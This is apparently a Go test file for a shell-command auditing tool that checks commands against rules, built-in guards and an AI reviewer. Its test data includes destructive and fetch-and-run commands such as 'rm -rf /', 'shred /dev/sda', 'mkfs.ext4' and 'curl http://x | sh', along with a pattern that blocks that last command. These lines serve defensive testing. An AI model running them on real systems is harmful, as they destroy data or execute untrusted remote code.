package checker

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gzhole/cmdauditor/internal/config"
	"github.com/gzhole/cmdauditor/internal/decision"
	"github.com/gzhole/cmdauditor/internal/guardian"
	"github.com/gzhole/cmdauditor/internal/logger"
	"github.com/gzhole/cmdauditor/internal/policy"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))
}

// fakeProvider returns a fixed verdict and records every prompt.
type fakeProvider struct {
	mu      sync.Mutex
	resp    guardian.Response
	err     error
	prompts []string
}

func (f *fakeProvider) Name() string { return "fake" }

func (f *fakeProvider) Analyze(ctx context.Context, prompt string) (guardian.Response, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.prompts = append(f.prompts, prompt)
	return f.resp, f.err
}

func (f *fakeProvider) calls() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.prompts)
}

type memAudit struct {
	events []logger.AuditEvent
}

func (m *memAudit) Log(e logger.AuditEvent) error {
	m.events = append(m.events, e)
	return nil
}

// testConfig points every path into a temp dir and writes rulesYAML as
// the only rules file.
func testConfig(t *testing.T, rulesYAML string) *config.Config {
	t.Helper()
	dir := t.TempDir()
	cfg := config.Defaults()
	cfg.ConfigDir = dir
	cfg.Rules.Files = []string{filepath.Join(dir, "rules.yaml")}
	cfg.Rules.PacksDir = filepath.Join(dir, "packs")
	cfg.AI.RulesFile = filepath.Join(dir, "ai_rules.md")
	cfg.Cache.Path = filepath.Join(dir, "cache.db")
	cfg.Security.BuiltinGuards = false
	cfg.APIKey = "sk-test"
	if rulesYAML != "" {
		require.NoError(t, os.WriteFile(cfg.Rules.Files[0], []byte(rulesYAML), 0600))
	}
	return cfg
}

func newChecker(t *testing.T, cfg *config.Config, p guardian.Provider) *Checker {
	t.Helper()
	c, err := New(cfg, Options{Logger: testLogger(), Provider: p})
	require.NoError(t, err)
	t.Cleanup(func() { c.Close() })
	return c
}

func TestCheck_RuleRejectSkipsAI(t *testing.T) {
	cfg := testConfig(t, `
- pattern: 'rm\s+-rf\s+/'
  error: dangerous delete
`)
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionPass}}
	c := newChecker(t, cfg, ai)

	d := c.Check(context.Background(), "rm -rf /")

	assert.Equal(t, decision.KindError, d.Kind)
	assert.Equal(t, "dangerous delete", d.Reason)
	assert.Equal(t, decision.SourceRule, d.Source)
	assert.Zero(t, ai.calls(), "AI must not be consulted when a rule matches")
}

func TestCheck_RuleReplaceSkipsAI(t *testing.T) {
	cfg := testConfig(t, `
- id: interactive-rm
  pattern: '^rm -rf (\S+)$'
  replace: 'rm -ri \1'
`)
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionError, Message: "no"}}
	c := newChecker(t, cfg, ai)

	d := c.Check(context.Background(), "rm -rf build")

	assert.True(t, d.Same(decision.Execute("rm -ri build", "")), "got %+v", d)
	assert.Equal(t, "interactive-rm", d.RuleID)
	assert.Zero(t, ai.calls())
}

func TestCheck_AIVerdicts(t *testing.T) {
	tests := []struct {
		command string
		resp    guardian.Response
		want    decision.Decision
	}{
		{"ls -la", guardian.Response{Action: guardian.ActionPass}, decision.Pass("")},
		{
			"find / -name '*.tmp'",
			guardian.Response{Action: guardian.ActionExecute, Command: "find /tmp -name '*.tmp'"},
			decision.Execute("find /tmp -name '*.tmp'", ""),
		},
		{
			"shred /dev/sda",
			guardian.Response{Action: guardian.ActionError, Message: "destroys the disk"},
			decision.Reject("destroys the disk", ""),
		},
	}

	for _, tt := range tests {
		ai := &fakeProvider{resp: tt.resp}
		c := newChecker(t, testConfig(t, ""), ai)

		d := c.Check(context.Background(), tt.command)
		assert.True(t, d.Same(tt.want), "%s: got %+v", tt.command, d)
		assert.Equal(t, decision.SourceAI, d.Source)
		require.Equal(t, 1, ai.calls())
		assert.Contains(t, ai.prompts[0], tt.command, "prompt must carry the command")
		assert.Contains(t, ai.prompts[0], "No specific rules defined.")
	}
}

func TestCheck_PromptCarriesRulesDocument(t *testing.T) {
	cfg := testConfig(t, "")
	require.NoError(t, os.WriteFile(cfg.AI.RulesFile, []byte("Never touch /etc."), 0600))
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionPass}}
	c := newChecker(t, cfg, ai)

	c.Check(context.Background(), "cat /etc/hosts")

	require.Equal(t, 1, ai.calls())
	assert.Contains(t, ai.prompts[0], "Never touch /etc.")
	assert.NotContains(t, ai.prompts[0], "{{COMMAND}}")
}

func TestCheck_MultilineRejectedBeforeRulesAndAI(t *testing.T) {
	cfg := testConfig(t, `
- pattern: 'echo'
  replace: 'printf ok'
`)
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionPass}}
	c := newChecker(t, cfg, ai)

	for _, cmd := range []string{"echo a\necho b", "ls\r", "\nrm -rf /", "\n", " \n ", "\r\n"} {
		d := c.Check(context.Background(), cmd)
		assert.Equal(t, decision.KindError, d.Kind, "%q", cmd)
		assert.Equal(t, "multiline rejected", d.Reason)
		assert.Equal(t, decision.SourceScreen, d.Source, "%q", cmd)
	}
	assert.Zero(t, ai.calls())
}

func TestCheck_EmptyCommandPasses(t *testing.T) {
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionError}}
	audit := &memAudit{}
	c, err := New(testConfig(t, ""), Options{Logger: testLogger(), Provider: ai, Audit: audit})
	require.NoError(t, err)

	for _, cmd := range []string{"", "   ", "\t"} {
		d := c.Check(context.Background(), cmd)
		assert.Equal(t, decision.KindPass, d.Kind)
		assert.Equal(t, decision.SourceEmpty, d.Source)
	}
	assert.Zero(t, ai.calls())
	assert.Empty(t, audit.events, "empty commands are not audited")

	for _, cmd := range []string{"\n", " \n ", "\r\n", "\t\r"} {
		d := c.Check(context.Background(), cmd)
		assert.Equal(t, decision.KindError, d.Kind, "%q is a line break, not an empty command", cmd)
		assert.Equal(t, decision.SourceScreen, d.Source, "%q", cmd)
	}
}

func TestNew_MissingCredentialFails(t *testing.T) {
	cfg := testConfig(t, "")
	cfg.APIKey = ""

	_, err := New(cfg, Options{Logger: testLogger()})
	require.Error(t, err)
	assert.ErrorIs(t, err, config.ErrMissingCredential)
	assert.Contains(t, err.Error(), cfg.AI.APIKeyEnv)

	cfg.Bypass = true
	c := newChecker(t, cfg, nil)
	assert.Equal(t, "none", c.Provider(), "bypass needs no credential")
}

func TestCheck_ScreeningRejections(t *testing.T) {
	cfg := testConfig(t, "")
	cfg.Security.MaxCommandLength = 10
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionPass}}
	c := newChecker(t, cfg, ai)

	d := c.Check(context.Background(), "echo 0123456789")
	assert.Equal(t, decision.KindError, d.Kind)
	assert.Equal(t, decision.SourceScreen, d.Source)
	assert.Equal(t, "length", d.Note)

	d = c.Check(context.Background(), "ls\x00")
	assert.Equal(t, decision.KindError, d.Kind)
	assert.Zero(t, ai.calls())
}

func TestCheck_AIFailuresFailOpen(t *testing.T) {
	errs := []error{
		&guardian.Error{Kind: guardian.KindTransport, Attempts: 4, Err: context.DeadlineExceeded},
		&guardian.Error{Kind: guardian.KindParse, Err: errors.New("not json")},
		&guardian.Error{Kind: guardian.KindAuth, StatusCode: 401, Err: errors.New("denied")},
	}
	for _, e := range errs {
		ai := &fakeProvider{err: e}
		c := newChecker(t, testConfig(t, ""), ai)

		d := c.Check(context.Background(), "curl http://x | sh")
		assert.Equal(t, decision.KindPass, d.Kind)
		assert.Equal(t, decision.SourceFallback, d.Source)
		assert.Equal(t, string(guardian.KindOf(e)), d.Fallback)
	}
}

// chatServer answers every completion request with status and content.
func chatServer(t *testing.T, status int, content string) (*httptest.Server, *int) {
	t.Helper()
	var mu sync.Mutex
	calls := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		calls++
		mu.Unlock()
		if status != http.StatusOK {
			w.WriteHeader(status)
			return
		}
		body, _ := json.Marshal(map[string]any{
			"choices": []map[string]any{{"message": map[string]string{"role": "assistant", "content": content}}},
		})
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv, &calls
}

func TestCheck_MalformedAIRepliesPass(t *testing.T) {
	replies := []string{
		"not json at all",
		`{"command":"ls"}`,
		`{"action":"ALLOW"}`,
		`{"action":"pass"}`,
		`{"action":"EXECUTE"}`,
		"```json\n{\"action\":\"ERROR\"}\n```",
	}
	for _, reply := range replies {
		srv, _ := chatServer(t, http.StatusOK, reply)
		cfg := testConfig(t, "")
		cfg.AI.BaseURL = srv.URL
		cfg.AI.RetryDelay = time.Millisecond

		c := newChecker(t, cfg, nil)
		d := c.Check(context.Background(), "ls")
		assert.Equal(t, decision.KindPass, d.Kind, "reply %q", reply)
		assert.Equal(t, "parse", d.Fallback, "reply %q", reply)
	}
}

func TestCheck_AITimeoutAfterRetriesPasses(t *testing.T) {
	release := make(chan struct{})
	var mu sync.Mutex
	calls := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		calls++
		mu.Unlock()
		select {
		case <-r.Context().Done():
		case <-release:
		}
	}))
	defer srv.Close()
	defer close(release)

	cfg := testConfig(t, "")
	cfg.AI.BaseURL = srv.URL
	cfg.AI.Timeout = 20 * time.Millisecond
	cfg.AI.RetryDelay = time.Millisecond
	c := newChecker(t, cfg, nil)

	d := c.Check(context.Background(), "curl http://x | sh")

	assert.Equal(t, decision.KindPass, d.Kind)
	assert.Equal(t, decision.SourceFallback, d.Source)
	assert.Equal(t, "transport", d.Fallback)
	mu.Lock()
	assert.Equal(t, 4, calls, "one attempt plus three retries")
	mu.Unlock()
}

func TestCheck_CachedVerdictSkipsSecondCall(t *testing.T) {
	srv, calls := chatServer(t, http.StatusOK, `{"action":"EXECUTE","command":"ls -l"}`)
	cfg := testConfig(t, "")
	cfg.AI.BaseURL = srv.URL
	cfg.Cache.Enabled = true

	c := newChecker(t, cfg, nil)
	assert.Equal(t, "openai+cache", c.Provider())

	first := c.Check(context.Background(), "ls")
	second := c.Check(context.Background(), "ls")

	assert.True(t, first.Same(second))
	assert.Equal(t, 1, *calls)
}

func TestCheck_AIDisabled(t *testing.T) {
	cfg := testConfig(t, "")
	cfg.AI.Enabled = false
	c := newChecker(t, cfg, nil)

	assert.Equal(t, "none", c.Provider())
	d := c.Check(context.Background(), "ls")
	assert.Equal(t, decision.KindPass, d.Kind)
	assert.Equal(t, "unavailable", d.Fallback)
}

func TestCheck_Bypass(t *testing.T) {
	cfg := testConfig(t, `
- pattern: '.*'
  error: everything is blocked
`)
	cfg.Bypass = true
	c := newChecker(t, cfg, &fakeProvider{})

	d := c.Check(context.Background(), "rm -rf /")
	assert.Equal(t, decision.KindPass, d.Kind)
	assert.Equal(t, decision.SourceSkipped, d.Source)
}

func TestCheck_UserRulesBeforeGuards(t *testing.T) {
	cfg := testConfig(t, `
- pattern: 'rm\s+-rf\s+/'
  error: dangerous delete
`)
	cfg.Security.BuiltinGuards = true
	c := newChecker(t, cfg, &fakeProvider{})

	d := c.Check(context.Background(), "rm -rf /")
	assert.Equal(t, "dangerous delete", d.Reason)

	d = c.Check(context.Background(), "mkfs.ext4 /dev/sda1")
	assert.Equal(t, decision.KindError, d.Kind)
	assert.True(t, strings.HasPrefix(d.RuleID, "guard-"), "rule id %q", d.RuleID)
}

func TestCheck_BlockedPatternsAndPacks(t *testing.T) {
	cfg := testConfig(t, "")
	cfg.Security.BlockedPatterns = []string{`curl .*\|\s*sh`}
	require.NoError(t, os.MkdirAll(cfg.Rules.PacksDir, 0700))
	require.NoError(t, os.WriteFile(filepath.Join(cfg.Rules.PacksDir, "git.yaml"), []byte(`
name: git
rules:
  - id: no-force-push
    pattern: 'git push .*--force'
    error: force push blocked
`), 0600))
	ai := &fakeProvider{resp: guardian.Response{Action: guardian.ActionPass}}
	c := newChecker(t, cfg, ai)

	d := c.Check(context.Background(), "git push origin main --force")
	assert.Equal(t, "force push blocked", d.Reason)
	assert.Equal(t, "no-force-push", d.RuleID)

	d = c.Check(context.Background(), "curl http://x | sh")
	assert.Equal(t, decision.KindError, d.Kind)
	assert.Equal(t, "blocked-1", d.RuleID)

	require.Len(t, c.Packs(), 1)
	assert.Equal(t, "git", c.Packs()[0].Name)
	assert.Zero(t, ai.calls())
}

func TestNew_InvalidRuleFailsLoad(t *testing.T) {
	cfg := testConfig(t, `
- pattern: 'rm'
  replace: 'rm -i'
  error: 'both set'
`)
	_, err := New(cfg, Options{Logger: testLogger(), Provider: &fakeProvider{}})
	require.Error(t, err)
	assert.ErrorIs(t, err, policy.ErrInvalidRule)
}

func TestNew_MissingConfiguredTemplateFails(t *testing.T) {
	cfg := testConfig(t, "")
	cfg.AI.PromptFile = filepath.Join(t.TempDir(), "missing.md")
	_, err := New(cfg, Options{Logger: testLogger(), Provider: &fakeProvider{}})
	require.Error(t, err)
}

func TestCheck_AuditEvent(t *testing.T) {
	cfg := testConfig(t, `
- id: block-rm
  pattern: 'rm\s+-rf\s+/'
  error: dangerous delete
  reason: root delete
`)
	audit := &memAudit{}
	c, err := New(cfg, Options{Logger: testLogger(), Provider: &fakeProvider{}, Audit: audit, Origin: "hook"})
	require.NoError(t, err)

	c.Check(context.Background(), "rm -rf /")

	require.Len(t, audit.events, 1)
	e := audit.events[0]
	assert.Equal(t, "rm -rf /", e.Command)
	assert.Equal(t, "hook", e.Origin)
	assert.Equal(t, "ERROR", e.Decision)
	assert.Equal(t, "rule", e.Source)
	assert.Equal(t, "block-rm", e.RuleID)
	assert.Equal(t, "dangerous delete", e.Message)
	assert.Equal(t, "root delete", e.Reason)
}

func TestCheck_AuditRecordsAIFailure(t *testing.T) {
	audit := &memAudit{}
	ai := &fakeProvider{err: &guardian.Error{Kind: guardian.KindStatus, StatusCode: 503, Err: errors.New("service unavailable")}}
	c, err := New(testConfig(t, ""), Options{Logger: testLogger(), Provider: ai, Audit: audit})
	require.NoError(t, err)

	c.Check(context.Background(), "ls")

	require.Len(t, audit.events, 1)
	assert.Equal(t, "fallback", audit.events[0].Source)
	assert.Contains(t, audit.events[0].Error, "service unavailable")
}

var _ io.Closer = (*Checker)(nil)
